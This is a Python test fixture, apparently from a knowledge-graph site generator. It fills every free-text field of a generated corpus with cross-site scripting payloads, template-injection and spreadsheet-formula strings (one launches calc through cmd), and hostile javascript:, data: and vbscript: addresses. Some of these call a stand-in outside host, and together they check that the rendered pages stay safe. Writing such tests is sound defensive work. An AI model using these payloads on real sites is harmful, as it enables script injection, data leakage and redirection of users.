"""A corpus that passes its check and whose every free text is an attack on the page that shows it, and the same attacks as
what visitors type. Each attack that runs sets `window.__ran`, opens a dialog, or asks another host."""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from nkgraph import acknowledged, build
from nkgraph.build import Built
from nkgraph.corpus import Places
from nkgraph.outcomes import Outcomes
from nkgraph.register import Register
from tests import tiny
from tests.conftest import REPOSITORY

ELSEWHERE = "elsewhere.example"  # no request may go there
_RUN = "window.__ran=1"
_ASK = f"//{ELSEWHERE}/seen"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={_ASK}.js></script>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_ASK}.png>",
    "<img/src=x/onerror=alert(1)//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"</title><script>{_RUN}</script>",
    f"</text></svg><img src=x onerror={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    f"<iframe src={_ASK}></iframe>",
    f"<object data={_ASK}></object>",
    f"<embed src={_ASK}>",
    f"<style>@import '{_ASK}.css'; body{{display:none}}</style>",
    f"</style><script>{_RUN}</script>",
    f"<link rel=stylesheet href={_ASK}.css>",
    f"<base href={_ASK}/>",
    f"<meta http-equiv=refresh content='0;url=http:{_ASK}'>",
    f"<form action={_ASK}><button autofocus onfocus={_RUN}>x</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"</textarea><script>{_RUN}</script>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"\" autofocus onfocus={_RUN} x=\"",
    f"' autofocus onfocus={_RUN} x='",
    f"\"><script>{_RUN}</script>",
    f"'><img src=x onerror={_RUN}>",
    f"` onmouseover={_RUN} `",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    f"＜script＞{_RUN}＜/script＞",
    f"=HYPERLINK(\"http:{_ASK}\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"<a href=\"javascript:{_RUN}\" autofocus>x</a>",
    f"<p style=\"background:url({_ASK}.png)\">x</p>",
    f"\u202e<script>{_RUN}</script>\u2066 turned round",
    f"<scr\u200bipt>{_RUN}</scr\u200bipt><img src=x onerror={_RUN}> with what has no width",
)  # fmt: skip
# What may stand for an address; a page may show it, and must not be led there.
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JavaScript:{_RUN}//",
    f"data:text/html,%3Cscript%3E{_RUN}%3C/script%3E",
    f"vbscript:{_RUN}",
    f"http://{ELSEWHERE}/%22%20autofocus%20onfocus=%22{_RUN}",
    f"http://{ELSEWHERE}/'onmouseover='{_RUN}",
    f"https://{ELSEWHERE}/?%3Cscript%3E{_RUN}%3C/script%3E",
)
_OF_ARTICLES = tuple(address for address in ADDRESSES if address.startswith("http"))  # what `check` lets pass
_SCHEMES = {
    "agents": 'agent:hostile-{n} a nk:Agent ; skos:prefLabel {label}@en ; skos:altLabel {other}@en .\n',
    "places": '<https://w3id.org/nkgraph/places/hostile-{n}> skos:inScheme <https://w3id.org/nkgraph/places> ;'
              ' skos:prefLabel {label}@en .\n',
    "measures": 'measure:hostile-{n} a nk:Measure ; skos:prefLabel {label}@en ; skos:definition {label}@en ;\n'
                '    nk:kind nk:flow ; nk:unit unit:person ; nk:additive true ; nk:verb {other}@en .\n',
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """Where the corpus lies, and the paths of the pages about what each attack names."""

    places: Places
    pages: tuple[str, ...]


def write(folder: Path) -> Hostile:
    """The corpus below `folder`; it passes its check."""
    ontology = folder / "ontology"
    shutil.copytree(REPOSITORY / "ontology", ontology)
    for scheme, line in _SCHEMES.items():
        with (ontology / "schemes" / f"{scheme}.ttl").open("a", encoding="utf-8") as file:
            for n, payload in enumerate(PAYLOADS):
                file.write(line.format(n=n, label=tiny.quoted(payload), other=tiny.quoted(f"{payload} {n}")))
    places = tiny.write(folder, {_stem(n): _article(n, p) for n, p in enumerate(PAYLOADS)}, ontology)
    built = _built(places, folder)
    findings = _acknowledge(places, built)
    _built(places, folder)
    named = [(_stem(n), f"hostile-{n}") for n in range(len(PAYLOADS))]
    pages = [f"/claims/{stem}{end}.html" for stem, _ in named for end in ("", "/first")]
    pages += [f"/{kind}/{name}.html" for _, name in named for kind in ("agents", "places", "measures")]
    pages += [f"/quantities/{name}/{name}/2014.html" for _, name in named]
    return Hostile(places, (*pages, *(f"/findings/{finding}.html" for finding in findings)))


def _stem(n: int) -> str:
    return f"2016-01-04-hostile-{n}-headline"


def _article(n: int, payload: str) -> tuple[str, list[tiny.Figure]]:
    """An article of which every text is the payload, and which contradicts itself."""
    text = tiny.quoted(payload)
    more = f" ;\n    nk:dateBasis {text} ; schema:url <{_OF_ARTICLES[n % len(_OF_ARTICLES)]}> ; nk:note {text}"
    if n % 10 == 9:
        more += f' ; nk:retractedOn "2017" ; nk:retractedBecause {text}'
    typed = (
        f"nk:measure measure:hostile-{n} ; nk:place <https://w3id.org/nkgraph/places/hostile-{n}> ;"
        f' nk:period "2014" ; nk:value {{}} ; nk:authority agent:hostile-{n} ; nk:note {text}'
    )
    figures = [tiny.Figure("first", "1,514", typed.format(1514)), tiny.Figure("second", "1,397", typed.format(1397))]
    return tiny.head(f"hostile-{n}", "2016-01-04", payload, more), figures


def _acknowledge(places: Places, built: Built) -> list[str]:
    """Judge every finding with an attack for a reason; their names."""
    register = Register(built.graph)
    findings = Outcomes(register).all
    prefixes = (REPOSITORY / "ontology" / "prefixes.ttl").read_text("utf-8")
    text = f"{prefixes}@base <https://w3id.org/nkgraph/acknowledged/> .\n"
    for n, finding in enumerate(findings):
        lines = acknowledged.snippet(finding, register, date(2026, 11, 22)).splitlines()
        lines[1] = f"<judged-{n}>{lines[1].partition('>')[2]}"
        text += "\n".join(lines).replace('""@en', f"{tiny.quoted(PAYLOADS[n % len(PAYLOADS)])}@en") + "\n"
    (places.claims / "acknowledged.ttl").write_text(text, "utf-8")
    return [finding.iri.value.rpartition("/")[2] for finding in findings]


def _built(places: Places, folder: Path) -> Built:
    built = build.build(places, cache=folder / "cache")
    assert not built.faults, "\n".join(map(str, built.faults[:5]))
    return built
